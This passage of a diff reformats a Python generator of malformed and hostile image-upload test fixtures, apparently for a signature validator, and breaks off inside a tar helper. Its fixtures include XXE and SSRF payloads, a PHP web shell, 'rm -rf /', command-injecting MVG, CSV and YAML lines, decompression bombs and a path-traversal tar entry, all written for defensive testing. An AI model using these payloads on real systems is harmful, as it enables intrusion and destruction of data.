@@ -10,17 +10,23 @@ from signauth.synth import Writer
 
 TYPES = dict(png='image/png', jpg='image/jpeg', webp='image/webp', tif='image/tiff', bmp='image/bmp')
 
-def signature(i=0): return Image.fromarray(Writer(1).sign(i))
-def saved(im, kind, **kw): im.save(b := io.BytesIO(), kind, **kw); return b.getvalue()
+def signature(i=0):
+    return Image.fromarray(Writer(1).sign(i))
+def saved(im, kind, **kw):
+    im.save(b := io.BytesIO(), kind, **kw)
+    return b.getvalue()
 
 # ---- good ones, which have to be answered
 def good():
     "Every accepted format in the modes that scanners and phones write: name and bytes"
-    im = signature(); rgb,l1 = im.convert('RGB'),im.convert('1')
+    im = signature()
+    rgb,l1 = im.convert('RGB'),im.convert('1')
     wide = Image.fromarray(np.asarray(im).astype(np.uint16)*257)
-    alpha = rgb.convert('RGBA'); alpha.putalpha(im.point(lambda o: 255-o))
+    alpha = rgb.convert('RGBA')
+    alpha.putalpha(im.point(lambda o: 255-o))
     yield from ((f'{m}.png', saved(o, 'PNG')) for m,o in dict(grey=im, rgb=rgb, bilevel=l1, palette=rgb.quantize(16), alpha=alpha, grey_alpha=alpha.convert('LA'), deep=wide).items())
-    few = im.point(lambda o: 255 if o>180 else o).quantize(8); yield 'transparent.png', saved(few, 'PNG', transparency=few.getpixel((0,0)))
+    few = im.point(lambda o: 255 if o>180 else o).quantize(8)
+    yield 'transparent.png', saved(few, 'PNG', transparency=few.getpixel((0,0)))
     yield from ((f'{m}.jpg', saved(o, 'JPEG', **kw)) for m,o,kw in (('grey',im,{}), ('rgb',rgb,{}), ('progressive',rgb,dict(progressive=True)), ('cmyk',rgb.convert('CMYK'),{}), ('full',rgb,dict(quality=100, subsampling=0))))
     yield from ((f'{m}.webp', saved(o, 'WEBP', **kw)) for m,o,kw in (('lossy',rgb,{}), ('lossless',rgb,dict(lossless=True)), ('alpha',alpha,{})))
     yield from ((f'{c or "raw"}.tif', saved(o, 'TIFF', compression=c)) for c,o in ((None,im), ('tiff_lzw',rgb), ('tiff_adobe_deflate',im), ('packbits',im), ('group4',l1), ('group3',l1), ('jpeg',rgb)))
@@ -29,11 +35,13 @@ def good():
 
 def seeds(): # One of each kind, to be broken
     picked = 'grey.png palette.png deep.png rgb.jpg progressive.jpg cmyk.jpg lossy.webp lossless.webp alpha.webp raw.tif tiff_lzw.tif jpeg.tif grey.bmp palette.bmp'.split()
-    files = dict(good()); return {k:files[k] for k in picked}
+    files = dict(good())
+    return {k:files[k] for k in picked}
 
 def truncated():
     for name,b in seeds().items():
-        for i in range(1, 17): yield f'{i/17:.0%}-{name}', b[:len(b)*i//17]
+        for i in range(1, 17):
+            yield f'{i/17:.0%}-{name}', b[:len(b)*i//17]
         yield f'last-byte-{name}', b[:-1]
 
 def flipped():
@@ -41,17 +49,22 @@ def flipped():
     for name,b in seeds().items():
         for i in range(16):
             r,a = random.Random(f'{name}{i}'),bytearray(b)
-            for _ in range(2**(i//2)): a[r.randrange(len(a) if i%2 else min(len(a), 200))] ^= 1<<r.randrange(8)
+            for _ in range(2**(i//2)):
+                a[r.randrange(len(a) if i%2 else min(len(a), 200))] ^= 1<<r.randrange(8)
             yield f'{i}-{name}', bytes(a)
 
 # ---- PNG by hand
-def chunk(kind, data=b'', crc=None): return struct.pack('>I', len(data))+kind+data+struct.pack('>I', zlib.crc32(kind+data) if crc is None else crc)
-def ihdr(w, h, depth=8, colour=0, compression=0, filter=0, interlace=0): return chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, depth, colour, compression, filter, interlace))
-def png(*chunks): return b'\x89PNG\r\n\x1a\n'+b''.join(chunks)+chunk(b'IEND')
+def chunk(kind, data=b'', crc=None):
+    return struct.pack('>I', len(data))+kind+data+struct.pack('>I', zlib.crc32(kind+data) if crc is None else crc)
+def ihdr(w, h, depth=8, colour=0, compression=0, filter=0, interlace=0):
+    return chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, depth, colour, compression, filter, interlace))
+def png(*chunks):
+    return b'\x89PNG\r\n\x1a\n'+b''.join(chunks)+chunk(b'IEND')
 
 def zeros(n):
     "`n` zeros, a multiple of 2²⁰, as zlib would pack them, but at once: the same block again and again"
-    c = zlib.compressobj(9, zlib.DEFLATED, -15); block = c.compress(bytes(2**20))+c.flush(zlib.Z_FULL_FLUSH)
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = c.compress(bytes(2**20))+c.flush(zlib.Z_FULL_FLUSH)
     return b'\x78\xda'+block*(n>>20)+b'\x03\x00'+struct.pack('>I', (n%65521)<<16|1)
 
 def pngs():
@@ -70,13 +83,16 @@ def pngs():
         'palette-odd':png(ihdr(8,8,8,3), chunk(b'PLTE', bytes(100)), chunk(b'IDAT', pic)), 'palette-short':png(ihdr(8,8,8,3), chunk(b'PLTE', bytes(3)), chunk(b'IDAT', pic)), 'trns-long':png(ok, chunk(b'tRNS', bytes(9999)), chunk(b'IDAT', pic)),
         'trns-empty':png(ok, chunk(b'tRNS'), chunk(b'IDAT', pic)), 'gama-zero':png(ok, chunk(b'gAMA', bytes(4)), chunk(b'IDAT', pic)), 'phys-zero':png(ok, chunk(b'pHYs', bytes(9)), chunk(b'IDAT', pic)), 'phys-short':png(ok, chunk(b'pHYs', b'\1'), chunk(b'IDAT', pic)),
         'signature-only':b'\x89PNG\r\n\x1a\n', 'after-the-end':png(ok, chunk(b'IDAT', pic))+b'<script>alert(1)</script>'*999, 'actl-huge':png(ok, chunk(b'acTL', struct.pack('>II', 2**31-1, 0)), chunk(b'IDAT', pic))}.items()
-    for d,c in ((0,0),(3,0),(16,3),(8,1),(8,5),(8,7),(1,2),(64,0),(255,255)): yield f'depth-{d}-colour-{c}', png(ihdr(8,8,d,c), chunk(b'IDAT', pic))
-    for i,k in enumerate(('compression','filter','interlace')): yield f'{k}-9', png(ihdr(8,8, **{k:9}), chunk(b'IDAT', pic))
+    for d,c in ((0,0),(3,0),(16,3),(8,1),(8,5),(8,7),(1,2),(64,0),(255,255)):
+        yield f'depth-{d}-colour-{c}', png(ihdr(8,8,d,c), chunk(b'IDAT', pic))
+    for i,k in enumerate(('compression','filter','interlace')):
+        yield f'{k}-9', png(ihdr(8,8, **{k:9}), chunk(b'IDAT', pic))
     yield 'interlaced-cut', png(ihdr(800,800,interlace=1), chunk(b'IDAT', zlib.compress(b'\0'*999)))
 
 # ---- sizes that lie, and sizes that are true
 SIZES = (0,1,3,40_000,65_535,2**31-1,2**31,2**32-1)
-def at(b, pos, fmt, *v): return b[:pos]+struct.pack(fmt, *v)+b[pos+struct.calcsize(fmt):]
+def at(b, pos, fmt, *v):
+    return b[:pos]+struct.pack(fmt, *v)+b[pos+struct.calcsize(fmt):]
 
 def ifd(*tags, big=False):
     "The start of a TIFF: tags as (number, type, count, value)"
@@ -87,28 +103,46 @@ def grey_tiff(w, h, bits=8, compression=1, samples=1, offset=200, count=64, rows
     return ifd(*sorted(tags)).ljust(offset if offset<1000 else 200, b'\0')+bytes(64)
 
 def lies():
-    f = dict(good()); jpg = f['grey.jpg']; sof = jpg.index(b'\xff\xc0')+5; l = f['lossless.webp']; v = f['lossy.webp']; x = f['alpha.webp']
+    f = dict(good())
+    jpg = f['grey.jpg']
+    sof = jpg.index(b'\xff\xc0')+5
+    l = f['lossless.webp']
+    v = f['lossy.webp']
+    x = f['alpha.webp']
     for s in SIZES:
         yield f'{s}-wide.png', png(ihdr(s, 8), chunk(b'IDAT', zlib.compress(bytes(72))))
         yield f'{s}-high.png', png(ihdr(8, s), chunk(b'IDAT', zlib.compress(bytes(72))))
         yield f'{s}-square.png', png(ihdr(s, s), chunk(b'IDAT', zlib.compress(bytes(72))))
-        for k,pos in (('wide',18),('high',22)): yield f'{s}-{k}.bmp', at(f['grey.bmp'], pos, '<I', s)
+        for k,pos in (('wide',18),('high',22)):
+            yield f'{s}-{k}.bmp', at(f['grey.bmp'], pos, '<I', s)
         yield f'{s}-square.bmp', at(f['grey.bmp'], 18, '<II', s, s)
-        yield f'{s}-wide.tif', grey_tiff(s, 8); yield f'{s}-high.tif', grey_tiff(8, s); yield f'{s}-square.tif', grey_tiff(s, s)
+        yield f'{s}-wide.tif', grey_tiff(s, 8)
+        yield f'{s}-high.tif', grey_tiff(8, s)
+        yield f'{s}-square.tif', grey_tiff(s, s)
         if s<2**16:
-            yield f'{s}-high.jpg', at(jpg, sof, '>H', s); yield f'{s}-wide.jpg', at(jpg, sof+2, '>H', s); yield f'{s}-square.jpg', at(jpg, sof, '>HH', s, s)
+            yield f'{s}-high.jpg', at(jpg, sof, '>H', s)
+            yield f'{s}-wide.jpg', at(jpg, sof+2, '>H', s)
+            yield f'{s}-square.jpg', at(jpg, sof, '>HH', s, s)
             yield f'{s}-lossy.webp', at(v, 26, '<HH', s&0x3fff, s&0x3fff)
     yield 'canvas-16777216.webp', at(x, 24, '<HBHB', 0xffff, 0xff, 0xffff, 0xff) if x[12:16]==b'VP8X' else x[:20]
     yield 'lossless-16384.webp', at(l, l.index(b'VP8L')+9, '<I', 0xfffffff)
-    yield 'riff-of-4-gb.webp', at(v, 4, '<I', 2**32-1); yield 'riff-of-nothing.webp', at(v, 4, '<I', 0); yield 'chunk-of-4-gb.webp', at(v, 16, '<I', 2**32-1)
-    yield 'no-frame.webp', b'RIFF'+struct.pack('<I', 22)+b'WEBPVP8X'+struct.pack('<I', 10)+bytes(10); yield 'fourcc.webp', v[:12]+b'EVIL'+v[16:]
+    yield 'riff-of-4-gb.webp', at(v, 4, '<I', 2**32-1)
+    yield 'riff-of-nothing.webp', at(v, 4, '<I', 0)
+    yield 'chunk-of-4-gb.webp', at(v, 16, '<I', 2**32-1)
+    yield 'no-frame.webp', b'RIFF'+struct.pack('<I', 22)+b'WEBPVP8X'+struct.pack('<I', 10)+bytes(10)
+    yield 'fourcc.webp', v[:12]+b'EVIL'+v[16:]
 
 def bombs():
     "Small files of many pixels; those below 50 megapixels are allowed and must not hurt either"
-    def deep(w, h, depth=8, colour=0): bits = w*depth*{0:1,2:3,6:4}[colour]; return png(ihdr(w, h, depth, colour), chunk(b'IDAT', zeros(((bits+7)//8+1)*h+2**20>>20<<20)))
-    for w,h in ((30_000,30_000),(60_000,60_000),(50_001,1000),(10**6,10**6),(2**31-1,1)): yield f'{w}x{h}.png', deep(w, h) if w*h<2**30 else png(ihdr(w, h), chunk(b'IDAT', zeros(2**26)))
-    for w,h in ((60_000,1),(1,60_000),(60_000,800),(800,60_000),(50_000_000,1),(1,50_000_000),(40_000,2),(2,40_000),(7000,7000)): yield f'{w}x{h}-allowed.png', deep(w, h)
-    yield '7000x7000-rgba-deep-allowed.png', deep(7000, 7000, 16, 6); yield '7000x7000-bilevel-allowed.png', deep(7000, 7000, 1)
+    def deep(w, h, depth=8, colour=0):
+        bits = w*depth*{0:1,2:3,6:4}[colour]
+        return png(ihdr(w, h, depth, colour), chunk(b'IDAT', zeros(((bits+7)//8+1)*h+2**20>>20<<20)))
+    for w,h in ((30_000,30_000),(60_000,60_000),(50_001,1000),(10**6,10**6),(2**31-1,1)):
+        yield f'{w}x{h}.png', deep(w, h) if w*h<2**30 else png(ihdr(w, h), chunk(b'IDAT', zeros(2**26)))
+    for w,h in ((60_000,1),(1,60_000),(60_000,800),(800,60_000),(50_000_000,1),(1,50_000_000),(40_000,2),(2,40_000),(7000,7000)):
+        yield f'{w}x{h}-allowed.png', deep(w, h)
+    yield '7000x7000-rgba-deep-allowed.png', deep(7000, 7000, 16, 6)
+    yield '7000x7000-bilevel-allowed.png', deep(7000, 7000, 1)
     for name,kind,kw in (('tif','TIFF',dict(compression='tiff_adobe_deflate')), ('tif','TIFF',dict(compression='group4')), ('jpg','JPEG',dict(quality=1)), ('webp','WEBP',dict(lossless=True, method=0))):
         side = 8000 if name=='webp' else 20_000
         yield f'{side}x{side}-{kw.get("compression","")}.{name}', saved(Image.new('1' if kw.get('compression')=='group4' else 'L', (side,side), 1), kind, **kw)
@@ -120,14 +154,18 @@ def bombs():
 def scans(w, h, n):
     "A progressive JPEG whose every scan changes nothing, but has to be walked through: work without end in a small file"
     im = saved(Image.new('L', (w,h), 'white'), 'JPEG', progressive=True, quality=1)
-    cut = im.index(b'\xff\xda'); end = im.index(b'\xff\xc4', cut) if b'\xff\xc4' in im[cut:] else len(im)-2
+    cut = im.index(b'\xff\xda')
+    end = im.index(b'\xff\xc4', cut) if b'\xff\xc4' in im[cut:] else len(im)-2
     table = b'\xff\xc4'+struct.pack('>H', 2+17+1)+b'\x10'+bytes([1]+[0]*15)+b'\xe0' # one code, '0': end of band for 2¹⁴ blocks and more
-    blocks = ((w+7)//8)*((h+7)//8); runs = -(-blocks//16384)
-    bits = ('0'+'0'*14)*(runs-1)+'0'+'0'*14; bits += '1'*(-len(bits)%8)
+    blocks = ((w+7)//8)*((h+7)//8)
+    runs = -(-blocks//16384)
+    bits = ('0'+'0'*14)*(runs-1)+'0'+'0'*14
+    bits += '1'*(-len(bits)%8)
     body = bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8)).replace(b'\xff', b'\xff\0')
     return im[:end]+table+(b'\xff\xda\0\x08\1\1\0\x01\x3f\x00'+body)*n+b'\xff\xd9'
 
-def bmp(w, h, bits=24, compression=0, data=b'', colours=0, header=40, planes=1, offset=54): return b'BM'+struct.pack('<IIIIiiHHIIiiII', 54+len(data), 0, offset, header, w, h, planes, bits, compression, len(data), 0, 0, colours, 0)+data
+def bmp(w, h, bits=24, compression=0, data=b'', colours=0, header=40, planes=1, offset=54):
+    return b'BM'+struct.pack('<IIIIiiHHIIiiII', 54+len(data), 0, offset, header, w, h, planes, bits, compression, len(data), 0, 0, colours, 0)+data
 
 def tiffs():
     px = 273,4,1
@@ -139,12 +177,18 @@ def tiffs():
         '10000-pages':b'II*\0\x08\0\0\0'+b''.join(struct.pack('<HHHIII', 1, 256, 4, 1, 8, 8+18*(i+1)) for i in range(10_000)), 'tiles':grey_tiff(8, 8, extra=((322,4,1,2**31),(323,4,1,2**31),(324,4,1,200),(325,4,1,64))), 'tiles-0':grey_tiff(8, 8, extra=((322,4,1,0),(323,4,1,0),(324,4,1,200))),
         'sub-ifds':grey_tiff(8, 8, extra=((330,4,2**28,8),)), 'exif-loop':grey_tiff(8, 8, extra=((34665,4,1,8),)), 'gps-past-the-end':grey_tiff(8, 8, extra=((34853,4,1,2**32-1),)), 'icc-of-4-gb':grey_tiff(8, 8, extra=((34675,7,2**32-1,8),)), 'orientation-99':grey_tiff(8, 8, extra=((274,3,1,99),)),
         'planar-9':grey_tiff(8, 8, samples=3, extra=((284,3,1,9),)), 'predictor-99':grey_tiff(8, 8, compression=5, extra=((317,3,1,99),)), 'format-complex':grey_tiff(8, 8, bits=64, extra=((339,3,1,6),)), 'nan':nan_tiff()}.items()
-    for c in (2,3,4,5,6,7,8,9,32771,32773,32809,32946,34661,34676,34712,34887,34925,50000,50001,65535): yield f'compression-{c}', grey_tiff(8, 8, compression=c)
+    for c in (2,3,4,5,6,7,8,9,32771,32773,32809,32946,34661,34676,34712,34887,34925,50000,50001,65535):
+        yield f'compression-{c}', grey_tiff(8, 8, compression=c)
 
-def nan_tiff(): a = np.full((64,64), np.nan, np.float32); a[9:20,9:50] = np.inf; return saved(Image.fromarray(a), 'TIFF')
+def nan_tiff():
+    a = np.full((64,64), np.nan, np.float32)
+    a[9:20,9:50] = np.inf
+    return saved(Image.fromarray(a), 'TIFF')
 
 def jpegs():
-    b = dict(good())['rgb.jpg']; soi,rest = b[:2],b[2:]; seg = lambda m,d: bytes([0xff,m])+struct.pack('>H', len(d)+2)+d
+    b = dict(good())['rgb.jpg']
+    soi,rest = b[:2],b[2:]
+    seg = lambda m,d: bytes([0xff,m])+struct.pack('>H', len(d)+2)+d
     without = lambda m: b''.join(o for o in _segments(b) if o[1]!=m)
     yield from {
         'only-soi':soi, 'soi-eoi':b'\xff\xd8\xff\xd9', 'segment-of-0':soi+b'\xff\xe0\0\0'+rest, 'segment-of-1':soi+b'\xff\xe1\0\1'+rest, 'fill':soi+b'\xff'*10**6+rest, 'no-tables':without(0xdb), 'no-huffman':without(0xc4), 'no-frame':without(0xc0), 'no-scan':without(0xda),
@@ -155,19 +199,31 @@ def jpegs():
 def _segments(b):
     "The parts of a JPEG, the entropy-coded data with its scan"
     i,res = 2,[b[:2]]
-    while i<len(b) and b[i+1]!=0xda: n = 2+struct.unpack('>H', b[i+2:i+4])[0]; res.append(b[i:i+n]); i += n
+    while i<len(b) and b[i+1]!=0xda:
+        n = 2+struct.unpack('>H', b[i+2:i+4])[0]
+        res.append(b[i:i+n])
+        i += n
     return res+[b[i:]]
 
 def bmps():
     px = b'\xff'*9999
     for name,kw in dict(header_0=dict(header=0), header_4gb=dict(header=2**32-1), header_13=dict(header=13), bits_0=dict(bits=0), bits_3=dict(bits=3), bits_65535=dict(bits=65535), colours_4gb=dict(bits=8, colours=2**32-1), colours_257=dict(bits=8, colours=257), rle8=dict(bits=8, compression=1), rle4=dict(bits=4, compression=2),
-        fields=dict(bits=16, compression=3), jpeg=dict(compression=4), png=dict(compression=5), compression_99=dict(compression=99), planes_0=dict(planes=0), offset_4gb=dict(offset=2**32-1), offset_0=dict(offset=0)).items(): yield name, bmp(32, 32, data=px, **kw)
-    yield 'minus-wide', bmp(-32, 32, data=px); yield 'top-down', bmp(32, -32, data=px); yield 'minus-2-31', bmp(32, -2**31, data=px); yield 'os2', b'BM'+struct.pack('<IIIIHHHH', 999, 0, 26, 12, 65535, 65535, 1, 24); yield 'rle-jumps', bmp(32, 32, bits=8, compression=1, data=bytes(1024)+b'\0\2\xff\xff'*5000)
+        fields=dict(bits=16, compression=3), jpeg=dict(compression=4), png=dict(compression=5), compression_99=dict(compression=99), planes_0=dict(planes=0), offset_4gb=dict(offset=2**32-1), offset_0=dict(offset=0)).items():
+        yield name, bmp(32, 32, data=px, **kw)
+    yield 'minus-wide', bmp(-32, 32, data=px)
+    yield 'top-down', bmp(32, -32, data=px)
+    yield 'minus-2-31', bmp(32, -2**31, data=px)
+    yield 'os2', b'BM'+struct.pack('<IIIIHHHH', 999, 0, 26, 12, 65535, 65535, 1, 24)
+    yield 'rle-jumps', bmp(32, 32, bits=8, compression=1, data=bytes(1024)+b'\0\2\xff\xff'*5000)
 
 def frames():
-    pages = [signature(i).resize((300,150)) for i in range(3)]; more = dict(save_all=True, append_images=pages[1:])
-    yield 'animated.gif', saved(pages[0], 'GIF', duration=9, loop=0, **more); yield 'animated.webp', saved(pages[0], 'WEBP', duration=9, **more); yield 'apng.png', saved(pages[0], 'PNG', duration=9, **more)
-    yield 'pages.tif', saved(pages[0], 'TIFF', **more); yield '500-pages.tif', saved(pages[0], 'TIFF', save_all=True, append_images=[pages[1]]*499, compression='tiff_adobe_deflate')
+    pages = [signature(i).resize((300,150)) for i in range(3)]
+    more = dict(save_all=True, append_images=pages[1:])
+    yield 'animated.gif', saved(pages[0], 'GIF', duration=9, loop=0, **more)
+    yield 'animated.webp', saved(pages[0], 'WEBP', duration=9, **more)
+    yield 'apng.png', saved(pages[0], 'PNG', duration=9, **more)
+    yield 'pages.tif', saved(pages[0], 'TIFF', **more)
+    yield '500-pages.tif', saved(pages[0], 'TIFF', save_all=True, append_images=[pages[1]]*499, compression='tiff_adobe_deflate')
     yield '300-frames.webp', saved(Image.new('L', (64,64)), 'WEBP', save_all=True, append_images=[Image.new('L', (64,64), i%256) for i in range(300)], minimize_size=False)
     yield '1000-frames.png', saved(Image.new('L', (8,8)), 'PNG', save_all=True, append_images=[Image.new('L', (8,8), i%256) for i in range(1000)])
 
@@ -175,39 +231,60 @@ def notes():
     "EXIF, ICC, XMP and comments: orientations, garbage, more than the picture, and the place where it was taken"
     im = signature().convert('RGB')
     for o in (0,1,2,3,4,5,6,7,8,9,65535):
-        e = Image.Exif(); e[0x112] = o
-        for ext,kind in (('jpg','JPEG'),('png','PNG'),('webp','WEBP')): yield f'orientation-{o}.{ext}', saved(im, kind, exif=e)
-    gps = Image.Exif(); gps[0x8825] = {1:'N', 2:(52.,31.,12.)}; gps[0x10f] = 'signauth-secret-place'
+        e = Image.Exif()
+        e[0x112] = o
+        for ext,kind in (('jpg','JPEG'),('png','PNG'),('webp','WEBP')):
+            yield f'orientation-{o}.{ext}', saved(im, kind, exif=e)
+    gps = Image.Exif()
+    gps[0x8825] = {1:'N', 2:(52.,31.,12.)}
+    gps[0x10f] = 'signauth-secret-place'
     for name,e in dict(gps=gps.tobytes(), garbage=b'Exif\0\0garbage', empty=b'Exif\0\0', loop=b'Exif\0\0II*\0\x08\0\0\0\1\0\x69\x87\4\0\1\0\0\0\x08\0\0\0\0\0\0\0', huge=b'Exif\0\0II*\0\x08\0\0\0'+b'\xff'*60_000, counts=b'Exif\0\0II*\0\x08\0\0\0\1\0\x12\1\3\0\xff\xff\xff\xff\0\0\0\0', string=b'Exif\0\0II*\0\x08\0\0\0\1\0\x12\1\2\0\4\0\0\0abc\0\0\0\0\0').items():
-        for ext,kind in (('jpg','JPEG'),('png','PNG'),('webp','WEBP')): yield f'exif-{name}.{ext}', saved(im, kind, exif=e)
+        for ext,kind in (('jpg','JPEG'),('png','PNG'),('webp','WEBP')):
+            yield f'exif-{name}.{ext}', saved(im, kind, exif=e)
     for name,icc in dict(garbage=b'garbage', zeros=bytes(128), huge=b'\0\x10\0\0'+random.Random(1).randbytes(2**20), lies=b'\xff\xff\xff\xff'+b'acsp'*99).items():
-        for ext,kind in (('jpg','JPEG'),('png','PNG'),('webp','WEBP'),('tif','TIFF')): yield f'icc-{name}.{ext}', saved(im, kind, icc_profile=icc)
-    t = PngImagePlugin.PngInfo(); t.add_itxt('XML:com.adobe.xmp', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'); yield 'xmp-xxe.png', saved(im, 'PNG', pnginfo=t)
-    yield 'xmp-huge.jpg', saved(im, 'JPEG', xmp=b'<x>'+b'y'*60_000); yield 'comment.jpg', saved(im, 'JPEG', comment=b'<script>alert(1)</script>')
+        for ext,kind in (('jpg','JPEG'),('png','PNG'),('webp','WEBP'),('tif','TIFF')):
+            yield f'icc-{name}.{ext}', saved(im, kind, icc_profile=icc)
+    t = PngImagePlugin.PngInfo()
+    t.add_itxt('XML:com.adobe.xmp', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')
+    yield 'xmp-xxe.png', saved(im, 'PNG', pnginfo=t)
+    yield 'xmp-huge.jpg', saved(im, 'JPEG', xmp=b'<x>'+b'y'*60_000)
+    yield 'comment.jpg', saved(im, 'JPEG', comment=b'<script>alert(1)</script>')
 
 def heavy():
     "Honest images that ask for the most work: the worst for finding ink, the most pixels, the largest file"
-    yield 'noise.png', saved(Image.fromarray(np.random.default_rng(0).integers(0, 256, (2900,2900), np.uint8)), 'PNG'); yield 'noise.jpg', saved(Image.fromarray(np.random.default_rng(0).integers(0, 256, (3000,3000), np.uint8)), 'JPEG', quality=90)
-    dots = np.full((7000,7000), 255, np.uint8); dots[::2,::2] = 0
-    yield 'dots-49-megapixels.png', saved(Image.fromarray(dots), 'PNG', compress_level=1); yield 'chess-49-megapixels.png', saved(Image.fromarray((np.indices((7000,7000)).sum(0)%2*255).astype(np.uint8)).convert('1'), 'PNG', compress_level=1)
-    yield 'lines.png', saved(Image.fromarray(np.tile(np.array([[0],[255]], np.uint8), (2000,4000))), 'PNG'); yield 'spiral.png', saved(Image.fromarray(spiral(2000)), 'PNG')
+    yield 'noise.png', saved(Image.fromarray(np.random.default_rng(0).integers(0, 256, (2900,2900), np.uint8)), 'PNG')
+    yield 'noise.jpg', saved(Image.fromarray(np.random.default_rng(0).integers(0, 256, (3000,3000), np.uint8)), 'JPEG', quality=90)
+    dots = np.full((7000,7000), 255, np.uint8)
+    dots[::2,::2] = 0
+    yield 'dots-49-megapixels.png', saved(Image.fromarray(dots), 'PNG', compress_level=1)
+    yield 'chess-49-megapixels.png', saved(Image.fromarray((np.indices((7000,7000)).sum(0)%2*255).astype(np.uint8)).convert('1'), 'PNG', compress_level=1)
+    yield 'lines.png', saved(Image.fromarray(np.tile(np.array([[0],[255]], np.uint8), (2000,4000))), 'PNG')
+    yield 'spiral.png', saved(Image.fromarray(spiral(2000)), 'PNG')
     yield 'large.jpg', saved(signature().convert('RGB').resize((8600,5700)), 'JPEG', quality=60)
-    for v in (0,128,255): yield f'plain-{v}.png', saved(Image.new('L', (600,300), v), 'PNG')
-    for w,h in ((1,1),(1,2),(2,1),(3,3),(7,5000),(5000,7),(16,16)): yield f'ink-{w}x{h}.png', saved(signature().resize((w,h)), 'PNG')
+    for v in (0,128,255):
+        yield f'plain-{v}.png', saved(Image.new('L', (600,300), v), 'PNG')
+    for w,h in ((1,1),(1,2),(2,1),(3,3),(7,5000),(5000,7),(16,16)):
+        yield f'ink-{w}x{h}.png', saved(signature().resize((w,h)), 'PNG')
     b = saved(signature(), 'PNG')
-    for n in (10_000_000, 10_000_001, 10*2**20, 10*2**20+1): yield f'{n}-bytes.png', b+bytes(n-len(b))
+    for n in (10_000_000, 10_000_001, 10*2**20, 10*2**20+1):
+        yield f'{n}-bytes.png', b+bytes(n-len(b))
 
 def spiral(n):
     a = np.full((n,n), 255, np.uint8)
-    for i in range(4, n//2-4, 6): a[i,i:n-i] = a[n-i,i:n-i] = a[i:n-i,n-i] = a[i+6:n-i,i] = 0; a[i+6,i:i+6] = 0
+    for i in range(4, n//2-4, 6):
+        a[i,i:n-i] = a[n-i,i:n-i] = a[i:n-i,n-i] = a[i+6:n-i,i] = 0
+        a[i+6,i:i+6] = 0
     return a
 
 def strangers():
     "Files of other kinds, whatever they call themselves"
-    im,rgb = signature(),signature().convert('RGB'); svg = lambda s: f'<?xml version="1.0"?>{s[0]}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{s[1]}</svg>'.encode()
+    im,rgb = signature(),signature().convert('RGB')
+    svg = lambda s: f'<?xml version="1.0"?>{s[0]}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{s[1]}</svg>'.encode()
     for kind in ('GIF','ICO','PPM','PCX','TGA','DDS','JPEG2000','IM','SGI','EPS','PDF','ICNS','XBM','MSP','SPIDER','PALM'):
-        try: yield f'picture.{kind.lower()}', saved((im.convert('1') if kind in ('XBM','MSP') else im.convert('F') if kind=='SPIDER' else rgb.quantize(2) if kind=='PALM' else rgb).resize((64,32)), kind)
-        except (OSError, KeyError): pass # what this Pillow cannot write
+        try:
+            yield f'picture.{kind.lower()}', saved((im.convert('1') if kind in ('XBM','MSP') else im.convert('F') if kind=='SPIDER' else rgb.quantize(2) if kind=='PALM' else rgb).resize((64,32)), kind)
+        except (OSError, KeyError):
+            pass # what this Pillow cannot write
     yield from {
         'script.svg':svg(('','<script>alert(1)</script>')), 'xxe.svg':svg(('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>','<text>&a;</text>')), 'ssrf.svg':svg(('','<image href="http://169.254.169.254/latest/meta-data/"/>')), 'laughs.xml':b'<!DOCTYPE x [<!ENTITY a "ha">'+b''.join(b'<!ENTITY a%d "&a%d;&a%d;&a%d;">'%(i+1,i,i,i) for i in range(30))+b']><x>&a30;</x>',
         'page.html':b'<!doctype html><script>alert(1)</script>', 'shell.php':b'<?php system($_GET["c"]); ?>', 'script.sh':b'#!/bin/sh\nrm -rf /\n', 'evil.ps':b'%!PS\n(/etc/passwd) (r) file\nshowpage\n', 'evil.eps':b'%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99999 99999\n%%EndComments\n{loop} loop\n', 'evil.mvg':b'push graphic-context\nfill \'url(https://x/"|ls")\'\n',
@@ -218,8 +295,21 @@ def strangers():
         'a.j2k':b'\xff\x4f\xff\x51'+bytes(99), 'a.jxl':b'\xff\x0a'+bytes(99), 'a.jxr':b'II\xbc\1'+bytes(99), 'a.wmf':b'\xd7\xcd\xc6\x9a'+bytes(99), 'a.emf':b'\1\0\0\0'+bytes(36)+b' EMF'+bytes(99), 'a.fits':b'SIMPLE  =                    T'+b' '*2851, 'a.cur':b'\0\0\2\0\1\0'+bytes(99), 'a.xpm':b'/* XPM */\nstatic char *x[] = {"99999 99999 1 1"};', 'a.ani':b'RIFF\0\0\0\0ACON', 'a.djvu':b'AT&TFORM\0\0\0\0DJVU', 'a.flif':b'FLIF'+bytes(9), 'a.qoi':b'qoif'+struct.pack('>II', 2**32-1, 2**32-1)+b'\3\0', 'a.pfm':b'Pf\n99999 99999\n-1\n', 'a.pgm':b'P5 99999 99999 255\n', 'a.pbm':b'P1\n9 9\n'+b'1 0 '*40,
         'eicar.com':base64.b64decode('WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo='), 'a.json':b'{"a":'*5000, 'a.csv':b'=cmd|"/C calc"!A0\n', 'a.yaml':b'!!python/object/apply:os.system ["id"]', 'data-url.txt':b'data:image/png;base64,'+base64.b64encode(saved(im, 'PNG')), 'path.txt':b'/etc/passwd', 'url.txt':b'http://169.254.169.254/'}.items()
 
-def zipped(name, data): b = io.BytesIO(); z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED); z.writestr(zipfile.ZipInfo(name), data); z.close(); return b.getvalue()
-def tar(): b = io.BytesIO(); t = tarfile.open(fileobj=b, mode='w'); i = tarfile.TarInfo('../../etc/x'); i.type = tarfile.SYMTYPE; i.linkname = '/etc/passwd'; t.addfile(i); t.close(); return b.getvalue()
+def zipped(name, data):
+    b = io.BytesIO()
+    z = zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED)
+    z.writestr(zipfile.ZipInfo(name), data)
+    z.close()
+    return b.getvalue()
+def tar():
